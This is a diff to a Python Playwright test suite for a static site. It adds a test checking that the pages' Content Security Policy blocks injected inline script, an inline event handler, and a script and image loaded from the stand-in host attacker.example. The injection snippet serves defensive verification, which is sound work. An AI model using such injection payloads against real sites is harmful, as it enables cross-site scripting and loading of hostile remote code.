@@ -2,6 +2,7 @@
 
 import re
 from collections.abc import Iterator
+from dataclasses import replace
 from pathlib import Path
 from typing import Any
 
@@ -39,6 +40,20 @@ BOTH = [path for place in KINDS for path in (place, f"cy/{place}")]
 SPILL = """() => {
   const root = document.documentElement;
   return root.scrollWidth > root.clientWidth ? root.scrollWidth : 0;
+}"""
+
+BROUGHT_IN = """() => {
+  const ran = (how) => `document.body.dataset.ran = "${how}"`;
+  const script = document.createElement("script");
+  script.textContent = ran("script");
+  const fetched = document.createElement("script");
+  fetched.src = "https://attacker.example/a.js";
+  const picture = document.createElement("img");
+  picture.src = "https://attacker.example/a.png";
+  const handler = document.createElement("button");
+  handler.setAttribute("onclick", ran("handler"));
+  document.body.append(script, fetched, picture, handler);
+  handler.click();
 }"""
 
 
@@ -188,6 +203,28 @@ def test_the_site_asks_nobody_for_anything(chromium: Browser, small: Path) -> No
     page.close()
     assert f"{small.as_uri()}/style.css" in asked
     assert not [url for url in asked if not url.startswith((small.as_uri(), "data:"))]
+
+
+def test_the_policy_of_a_page_blocks_nothing_of_its_own_and_whatever_is_brought_in(
+    chromium: Browser, small: Path, shelf: Path
+) -> None:
+    page = chromium.new_page()
+    blocked: list[str] = []
+    page.on("console", lambda told: blocked.append(told.text) if told.type == "error" else None)
+    drafts = small.parent / "draft"
+    write(content(), replace(mark(content()), draft=True), drafts)
+    for path in (*(small / each for each in BOTH), drafts / "index.html", shelf / "index.html"):
+        page.goto(path.as_uri())
+        assert page.evaluate("getComputedStyle(document.body).marginTop") == "0px", path
+        assert page.evaluate("document.styleSheets.length") == 1, path
+    assert blocked == []
+    page.goto((small / "index.html").as_uri())
+    page.evaluate(BROUGHT_IN)
+    page.wait_for_timeout(300)
+    assert page.evaluate("document.body.dataset.ran ?? null") is None
+    assert len(blocked) == 4, blocked
+    assert all("Content Security Policy" in told for told in blocked)
+    page.close()
 
 
 def test_without_script_everything_is_there(chromium: Browser, small: Path) -> None:
